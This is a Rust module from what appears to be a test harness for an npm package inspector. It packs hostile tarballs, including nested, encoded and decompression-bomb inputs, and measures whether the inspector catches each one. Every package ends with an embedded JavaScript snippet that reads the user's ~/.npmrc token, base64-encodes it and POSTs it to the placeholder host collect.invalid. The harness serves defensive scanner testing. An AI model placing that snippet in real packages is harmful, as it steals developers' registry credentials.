//! Input made to kill or to tire the inspector. Each hides the same theft behind it, so a verdict of "nothing here" is
//! always wrong: the theft is found, or the verdict says that something was not looked at.

mod decoding;
mod nesting;
mod size;

use crate::child::End;
use crate::inspector::{Inspector, Outcome, Question};
use crate::tarball::Writer;
use crate::wilson::Share;
use anyhow::Result;
use serde::Serialize;
use std::fs;
use std::path::{Path, PathBuf};

/// What every input ends with: reads a secret, sends it away.
const THEFT: &str = "\n;const fs_ = require('fs'), os_ = require('os'), https_ = require('https');\n\
    const token_ = fs_.readFileSync(os_.homedir() + '/.npmrc', 'utf8');\n\
    const sent_ = https_.request({ host: 'collect.invalid', path: '/t', method: 'POST' });\n\
    sent_.write(Buffer.from(token_).toString('base64'));\nsent_.end();\n";

/// A package made when it is needed: some are large.
struct Input {
    name: String,
    files: Box<dyn Fn() -> Vec<File>>,
}

enum File {
    Plain(String, Vec<u8>),
    /// The same byte many times: small when packed.
    Bomb(String, u8, u64),
}

#[derive(Debug, Serialize)]
pub(crate) struct Hostile {
    /// Ended by themselves, in time, at quarantine or block.
    pub(crate) held: Share,
    pub(crate) peak_megabytes: f64,
    pub(crate) slowest_ms: f64,
    inputs: Vec<Ended>,
}

#[derive(Debug, Serialize)]
struct Ended {
    input: String,
    held: bool,
    outcome: Option<Outcome>,
    end: String,
    said: Vec<String>,
    wall_ms: f64,
    peak_megabytes: f64,
}

pub(crate) fn measure(inspector: &Inspector, only: &str) -> Result<Hostile> {
    let home = tempfile::tempdir()?;
    let mut inputs = Vec::new();
    let all = nesting::inputs()
        .chain(decoding::inputs())
        .chain(size::inputs());
    for input in all.filter(|input| input.name.contains(only)) {
        let tarball = input.pack(home.path())?;
        let ended = ask(inspector, &input.name, tarball.clone());
        eprintln!("{:<40} {} {:.0} ms", ended.input, ended.end, ended.wall_ms);
        inputs.push(ended);
        fs::remove_file(tarball)?;
    }
    Ok(Hostile {
        held: Share::new(
            inputs.iter().filter(|input| input.held).count(),
            inputs.len(),
        ),
        peak_megabytes: inputs
            .iter()
            .map(|input| input.peak_megabytes)
            .fold(0.0, f64::max),
        slowest_ms: inputs.iter().map(|input| input.wall_ms).fold(0.0, f64::max),
        inputs,
    })
}

fn ask(inspector: &Inspector, name: &str, tarball: PathBuf) -> Ended {
    let answer = inspector.ask(&Question::inspect(tarball));
    let document = answer.document.as_ref();
    let outcome = document.ok().map(|document| document.outcome);
    Ended {
        input: name.to_owned(),
        held: outcome.is_some_and(Outcome::holds),
        outcome,
        end: match answer.end {
            End::Code(code) => format!("exit code {code}"),
            End::Signal(signal) => format!("signal {signal}"),
            End::TimedOut => "timed out".to_owned(),
        },
        said: match document {
            Ok(document) => document.top_rules(4),
            Err(why) => vec![why.clone()],
        },
        wall_ms: answer.used.wall_ms.round(),
        peak_megabytes: (answer.used.peak_bytes >> 20) as f64,
    }
}

impl Input {
    fn new(name: impl Into<String>, files: impl Fn() -> Vec<File> + 'static) -> Self {
        Self {
            name: name.into(),
            files: Box::new(files),
        }
    }

    /// One file that does its work before the theft.
    fn script(name: impl Into<String>, code: impl Fn() -> String + 'static) -> Self {
        Self::new(name, move || vec![File::script("index.js", code())])
    }

    fn pack(&self, home: &Path) -> Result<PathBuf> {
        let mut files = (self.files)();
        if !files.iter().any(|file| file.name() == "package.json") {
            let manifest = r#"{"name":"hostile","version":"1.0.0","main":"index.js"}"#;
            files.push(File::Plain("package.json".into(), manifest.into()));
        }
        let mut writer = Writer::new();
        for file in &files {
            let name = format!("package/{}", file.name());
            match file {
                File::Plain(_, bytes) => writer.add(&name, bytes, false)?,
                File::Bomb(_, byte, size) => writer.add_repeated(&name, *byte, *size)?,
            }
        }
        let path = home.join(format!("{}.tgz", self.name));
        fs::write(&path, writer.finish()?)?;
        Ok(path)
    }
}

impl File {
    fn script(name: &str, code: String) -> Self {
        Self::Plain(name.to_owned(), (code + THEFT).into_bytes())
    }

    fn theft() -> Self {
        Self::script("index.js", String::new())
    }

    fn name(&self) -> &str {
        match self {
            Self::Plain(name, _) | Self::Bomb(name, ..) => name,
        }
    }
}

impl Hostile {
    pub(crate) fn print(&self) {
        println!("\n## Hostile input\n");
        for input in &self.inputs {
            let outcome = input
                .outcome
                .map_or_else(|| "no verdict".to_owned(), |outcome| outcome.to_string());
            println!(
                "{:<5} {outcome:<11} {:<40} {:>7.0} ms {:>5.0} MiB  {}: {}",
                if input.held { "ok" } else { "MISS" },
                input.input,
                input.wall_ms,
                input.peak_megabytes,
                input.end,
                input.said.join(", ")
            );
        }
        println!("\nheld {}", self.held);
        println!(
            "slowest {:.0} ms, peak memory {:.0} MiB",
            self.slowest_ms, self.peak_megabytes
        );
    }
}

#[cfg(test)]
mod tests;
